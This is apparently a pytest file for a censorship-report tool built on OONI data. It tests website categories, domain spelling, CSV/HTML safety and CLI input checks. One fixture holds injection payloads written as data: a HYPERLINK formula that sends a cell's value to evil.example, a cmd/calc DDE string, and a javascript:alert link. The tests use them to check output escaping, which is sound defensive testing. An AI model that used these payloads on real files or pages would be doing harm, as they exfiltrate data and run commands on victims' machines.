"""Reports, from review: categories per website, API domain spellings, safe CSV/HTML, refused inputs and options.

Data: OONI, CC BY-NC-SA 4.0 (Kenya JSONL). Test lists: Citizen Lab, CC BY-NC-SA 4.0.
The events and aggregation rows below are hand-made (counts invented to exercise one rule each).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest

from censorwatch.cli import main
from censorwatch.models import AsnEvidence, Event, EventAction, EventKind
from reports import render
from reports.core import References, add_test_list, build_report, parse_test_list
from reports.sources import AggregationSource, from_events
from tests.test_reports_support import FakeAggregationApi, rows_from_measurements

KE = "events/ke-webconnectivity-telegram-2023.jsonl"
KE_ARGS = ["report", "--country", "KE", "--since", "2023-10-15", "--until", "2023-11-29"]
JULY = date(2023, 7, 1), date(2023, 7, 31)


def _counts(total: int, blocked: int = 0) -> dict[str, int]:
    return dict(
        measurement_count=total, ok_count=total - blocked, anomaly_count=blocked, confirmed_count=0, failure_count=0
    )


def _lists(shared: Path, *names: str) -> References:
    refs = References()
    for i, name in enumerate(names):
        rows = parse_test_list((shared / "test-lists" / name).read_text(encoding="utf-8"))
        add_test_list(refs, rows, watch=i == 0)
    return refs


# ---- 1: one category per website, from its most-measured URL ------------------------------------


def _facebook_api(path: str, params: Mapping[str, Any]) -> Any:
    """www.facebook.com in KH: 1,000 measurements of the home page (GRP), 20 of the cambodiapride pages (LGBT)."""
    inputs = [
        ("http://www.facebook.com/cambodiapride/", "LGBT", 10),
        ("https://www.facebook.com/", "GRP", 1000),
        ("https://www.facebook.com/cambodiapride/", "LGBT", 10),
    ]
    axes = (params.get("axis_x"), params.get("axis_y"))
    if axes == ("input", "category_code"):
        return {"result": [dict(_counts(n), input=u, category_code=c) for u, c, n in inputs]}
    if axes == ("measurement_start_day", "domain"):
        return {"result": [dict(_counts(1020), measurement_start_day="2023-07-20", domain="www.facebook.com")]}
    if axes == ("domain", "probe_asn"):
        return {"result": [dict(_counts(1020), domain="www.facebook.com", probe_asn=38623)]}
    return {"result": []}


@pytest.mark.parametrize("lists", [("kh.csv", "global.csv"), ("global.csv", "kh.csv")])
def test_website_category_is_its_most_measured_urls_whatever_the_list_order(
    shared_data: Path, lists: tuple[str, ...]
) -> None:
    """kh.csv lists two facebook.com/cambodiapride URLs as LGBT; they must not take the 1,000 GRP measurements."""
    inp = AggregationSource(_facebook_api, "KH", *JULY).fetch()
    report = build_report(inp, _lists(shared_data, *lists))
    assert [(r.code, r.websites, r.measurements) for r in report.categories] == [("GRP", 1, 1020)]


def test_domain_only_sources_take_the_home_pages_category(shared_data: Path) -> None:
    """An event names the domain only: the listed home page's category, not the first URL read."""
    refs = _lists(shared_data, "kh.csv", "global.csv")
    assert refs.category_of("www.facebook.com") == "GRP"
    # a measured URL that is listed keeps its own category when it is the site's most measured
    assert refs.category_of("www.facebook.com", {"https://www.facebook.com/cambodiapride/": 5}) == "LGBT"
    # an unlisted URL falls back to the domain's
    assert refs.category_of("www.facebook.com", {"https://www.facebook.com/unlisted": 5}) == "GRP"


# ---- 2: the API's domain keeps case and port -------------------------------------------------------


def test_api_domain_spelling_is_normalised_for_keys_and_kept_for_queries(shared_data: Path) -> None:
    spelled = {
        "https://www.mmpeaceMonitor.org/": "www.mmpeaceMonitor.org",
        "http://example.org:8080/": "example.org:8080",
    }
    asked: list[dict[str, str]] = []

    def get_json(path: str, params: Mapping[str, Any]) -> Any:
        asked.append(dict(params))
        axes = (params.get("axis_x"), params.get("axis_y"))
        rows = []
        for url, dom in spelled.items():
            if params.get("domain", dom) != dom:
                continue
            vals = {
                "measurement_start_day": "2023-07-20",
                "domain": dom,
                "input": url,
                "category_code": "HUMR",
                "probe_asn": 9988,
                "blocking_type": "dns",
            }
            rows.append(dict(_counts(10, 8), **{a: vals[a] for a in axes if a}))
        return {"result": rows}

    refs = _lists(shared_data, "mm.csv")  # lists https://www.mmpeaceMonitor.org/ as POLR
    report = build_report(AggregationSource(get_json, "MM", *JULY).fetch(refs), refs)
    assert report.summary.measurements == 10 and [b.domain for b in report.blocked] == ["www.mmpeacemonitor.org"]
    assert [r.code for r in report.categories] == ["POLR"]  # the list, not the source, names the category
    assert {q["domain"] for q in asked if "domain" in q} == {"www.mmpeaceMonitor.org"}  # follow-ups: raw value
    assert "domain=www.mmpeaceMonitor.org&" in report.blocked[0].links[0]

    everything = build_report(AggregationSource(get_json, "MM", *JULY).fetch(), References())
    assert sorted(b.domain for b in everything.blocked) == ["example.org", "www.mmpeacemonitor.org"]
    assert [(r.code, r.websites) for r in everything.categories] == [("HUMR", 2)]  # not UNCAT
    site = next(b for b in everything.blocked if b.domain == "example.org")
    assert "domain=example.org%3A8080&" in site.links[0] and site.methods == ("DNS",)


# ---- 3: CSV formulas and non-web links ----------------------------------------------------------------


def _hostile_event() -> Event:
    seen = datetime(2023, 7, 20, tzinfo=UTC), datetime(2023, 7, 21, tzinfo=UTC)
    return Event(
        event_id="KH|x",
        version=1,
        kind=EventKind.TARGET_BLOCKED,
        action=EventAction.OPENED,
        cc="KH",
        target='=HYPERLINK("http://evil.example/?"&A1,"click")',
        test_name="web_connectivity",
        category="+SUM(1,1)",
        asns=[
            AsnEvidence(
                asn=38623,
                name="@SUM(1+1)*cmd|' /C calc'!A0",
                blocked=5,
                total=10,
                methods=["dns"],
                first_seen=seen[0],
                last_seen=seen[1],
            )
        ],
        explorer_links=["javascript:alert(document.domain)"],
        first_seen=seen[0],
        last_seen=seen[1],
    )


def test_csv_cells_are_never_formulas_and_only_web_links_are_links() -> None:
    report = build_report(from_events([_hostile_event()], "KH", *JULY), References())
    text = render.to_csv_stream(report)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells and "'+SUM(1,1)" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    page = render.to_html(report)
    assert 'href="javascript' not in page and "javascript:alert(document.domain)" in page
    assert page.count("<a href=") == 1  # the Explorer chart
    assert "](javascript" not in render.to_markdown(report)


# ---- 4: nothing readable ------------------------------------------------------------------------------


def test_input_with_no_readable_line_is_refused(
    shared_data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    events = tmp_path / "events.jsonl"
    events.write_bytes(_hostile_event().to_bytes() + b"\n")
    assert main([*KE_ARGS, "--source", "events", str(shared_data / KE)]) == 2
    assert "could be read as an event" in capsys.readouterr().err
    assert main([*KE_ARGS, "--source", "measurements", str(events)]) == 2
    assert "could be read as a measurement" in capsys.readouterr().err
    # some bad lines among good ones: a note, as before
    mixed = tmp_path / "mixed.jsonl"
    mixed.write_text("not json\n" + (shared_data / KE).read_text(encoding="utf-8"), encoding="utf-8")
    assert main([*KE_ARGS, "--source", "measurements", str(mixed)]) == 0
    assert "1 input lines could not be read as measurements" in capsys.readouterr().out


# ---- 5: --category needs categories ---------------------------------------------------------------------


def test_category_without_categories_is_refused_unless_the_source_has_them(
    shared_data: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    files = ["--source", "measurements", str(shared_data / KE), "--category", "GRP"]
    assert main([*KE_ARGS, *files]) == 2
    assert "--category GRP needs --watchlist or --test-list" in capsys.readouterr().err
    assert main([*KE_ARGS, *files, "--test-list", str(shared_data / "test-lists/global.csv")]) == 0
    assert "| GRP |" in capsys.readouterr().out
    # the aggregation API carries Citizen Lab categories itself
    url_category = dict(parse_test_list((shared_data / "test-lists/global.csv").read_text(encoding="utf-8")))
    with FakeAggregationApi(rows_from_measurements(shared_data / KE, url_category)) as api:
        monkeypatch.setenv("CENSORWATCH_OONI_API_URL", api.base_url)
        assert main([*KE_ARGS, "--category", "GRP"]) == 0
    assert "| GRP |" in capsys.readouterr().out


# ---- 6: thresholds --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--min-blocked", "0"),
        ("--min-blocked", "-3"),
        ("--min-share", "0"),
        ("--min-share", "1.5"),
        ("--min-share", "nan"),
    ],
)
def test_thresholds_out_of_range_are_refused(
    shared_data: Path, option: str, value: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([*KE_ARGS, "--source", "measurements", str(shared_data / KE), option, value]) == 2
    assert f"{option} must be" in capsys.readouterr().err


# ---- 7: an event log's unknown tables say n/a -----------------------------------------------------------


def test_event_log_tables_it_cannot_know_print_na() -> None:
    report = build_report(from_events([_hostile_event()], "KH", *JULY), References())
    md = render.to_markdown(report)
    page = render.to_html(report)
    for title in ("Websites by category", "Measurements per month"):
        assert f"## {title}\n\nn/a\n" in md
        assert f"<h2>{title}</h2>\n<p>n/a</p>" in page
    empty = build_report(from_events([], "KH", *JULY), References())
    assert "## Blocked websites\n\n(none)\n" in render.to_markdown(empty)  # known to be empty


# ---- 8: --out of the wrong kind --------------------------------------------------------------------------


def test_out_of_the_wrong_kind_is_a_clear_error(
    shared_data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = [*KE_ARGS, "--source", "measurements", str(shared_data / KE)]
    existing = tmp_path / "existing.csv"
    existing.write_text("keep\n")
    assert main([*args, "--format", "csv", "--out", str(existing)]) == 2
    assert "writes one file per table into a directory" in capsys.readouterr().err
    assert existing.read_text() == "keep\n"
    assert main([*args, "--format", "md", "--out", str(tmp_path)]) == 2
    assert "it is a directory" in capsys.readouterr().err
    assert main([*args, "--format", "md", "--out", str(existing)]) == 0  # a file is overwritten, as documented
    assert existing.read_text().startswith("# Internet censorship report: KE")
